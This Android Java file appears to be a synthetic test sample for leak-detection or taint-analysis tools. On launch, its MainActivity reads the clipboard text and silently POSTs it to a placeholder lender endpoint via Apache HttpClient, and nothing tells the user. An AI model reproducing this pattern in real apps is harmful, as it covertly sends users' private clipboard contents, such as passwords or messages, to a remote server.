package com.example.flows.clipboard_apache;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.net.wifi.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;
import android.content.ClipboardManager;

/** Copied text is the entity of an Apache request. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        ClipboardManager clipboard = (ClipboardManager) getSystemService(CLIPBOARD_SERVICE);
        ClipData clip = clipboard.getPrimaryClip();
        try {
            org.apache.http.client.methods.HttpPost post = new org.apache.http.client.methods.HttpPost("https://api.lender.example/clip");
            post.setEntity(new org.apache.http.entity.StringEntity(clip.getItemAt(0).getText().toString()));
            new org.apache.http.impl.client.DefaultHttpClient().execute(post);
        } catch (Exception e) {
            finish();
        }
    }

}
